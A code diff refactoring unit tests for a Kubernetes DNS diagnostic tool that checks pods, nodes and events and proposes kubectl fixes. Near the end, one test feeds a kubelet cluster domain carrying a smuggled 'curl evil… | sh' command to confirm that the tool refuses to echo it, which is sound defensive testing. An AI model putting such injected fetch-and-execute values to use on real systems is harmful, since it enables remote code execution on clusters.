@@ -1,13 +1,14 @@
 import { describe, expect, it } from "vitest";
 import { diagnose } from "../../../src/model/doctor/diagnose";
 import type { FindingId } from "../../../src/model/doctor/findings";
-import type { Event, Pod } from "../../../src/model/kubernetes/kinds";
+import type { Pod } from "../../../src/model/kubernetes/kinds";
 import type { ClusterDnsProps } from "../../../src/model/props/cluster-dns";
 import type { ClusterState } from "../../../src/model/running/cluster-state";
 import {
   commands,
   daemonSet,
   described,
+  event,
   findingsOf,
   found,
   healthy,
@@ -79,17 +80,9 @@ describe("a pod that does not serve", () => {
 
   it("is one that cannot start if its kubelet fails to make its network, which only an event says", () => {
     const pods = withStatus(waiting("ContainerCreating", ""));
-    const event = (reason: string): Event => ({
-      apiVersion: "v1",
-      kind: "Event",
-      metadata: { name: reason, creationTimestamp: "2026-10-31T23:59:00Z" },
-      involvedObject: { kind: "Pod", name: "coredns-0" },
-      reason,
-      message: "open /etc/resolv.conf",
-    });
-    const ofEvent = (reason: string) => found({ pods, events: [event(reason)] })[0];
+    const ofEvent = (reason: string) => found({ pods, events: [event("Pod", "coredns-0", reason, "open")] })[0];
     expect(ofEvent("FailedCreatePodSandBox")?.id).toBe("cannot-start");
-    expect(ofEvent("FailedCreatePodSandBox")?.evidence).toContain("FailedCreatePodSandBox: open /etc/resolv.conf");
+    expect(ofEvent("FailedCreatePodSandBox")?.evidence).toContain("FailedCreatePodSandBox: open");
     expect(ofEvent("Unhealthy")?.id).toBe("not-ready");
   });
 
@@ -223,10 +216,7 @@ describe("a pod that does not serve", () => {
     expect(commands(refused).at(-1)).toMatch(/^kubectl rollout restart deployment coredns -n kube-system/);
   });
 
-  const withDNS = (authoritativeDNS: ClusterDnsProps["authoritativeDNS"]): ClusterDnsProps => ({
-    ...props,
-    authoritativeDNS,
-  });
+  const withDNS = (authoritativeDNS: ClusterDnsProps["authoritativeDNS"]) => ({ ...props, authoritativeDNS });
   it.each<[id: FindingId, given: ClusterDnsProps, replicas: number, mends: RegExp]>([
     ["scaled-to-zero", props, 0, /^kubectl apply .* -k dist\/prod$/],
     ["scaled-down", props, 1, /^kubectl apply .* -k dist\/prod$/],
@@ -260,9 +250,7 @@ describe("nodes", () => {
   it("that came back under another name are there twice", () => {
     const addresses = [{ type: "InternalIP", address: "192.0.2.1" }];
     const nodes = patched(down("node-2"), /./, { status: { addresses } });
-    expect(found({ nodes })[0]?.evidence.at(-1)).toBe(
-      "node-1 has the same address: if node-2 was renamed, delete node node-2",
-    );
+    expect(found({ nodes })[0]?.evidence.at(-1)).toContain("node-1 has the same address: if node-2 was renamed");
   });
 
   it.each([
@@ -300,10 +288,7 @@ describe("nodes", () => {
       metadata: { ...node.metadata, labels: zone(zones[i] ?? "c") },
     }));
     let n = 0;
-    const pods = replaced(is.pods, /^coredns-/, (each) => ({
-      ...each,
-      spec: { ...each.spec, nodeName: placed[n++] ?? "" },
-    }));
+    const pods = replaced(is.pods, /^coredns-/, (p) => ({ ...p, spec: { ...p.spec, nodeName: placed[n++] ?? "" } }));
     const all = found({ nodes, pods }).filter(({ id }) => id.startsWith("dns-"));
     expect(all.map(({ id }) => id)).toEqual(ids);
   });
@@ -352,9 +337,7 @@ describe("pods with a resolv.conf of their own", () => {
       "kubectl exec try -n bar -- nslookup kubernetes.default.svc.corp.example.",
     );
     // Without a cluster file, a node says the domain; but not what somebody runs.
-    const kubelets = new Map([
-      ["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.example | sh #" }],
-    ]);
+    const kubelets = new Map([["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.x | sh #" }]]);
     expect(diagnose({ ...is, pods, kubelets }).flatMap(commands)).toEqual([
       "kubectl exec try -n bar -- nslookup kubernetes.default.svc.cluster.local.",
     ]);
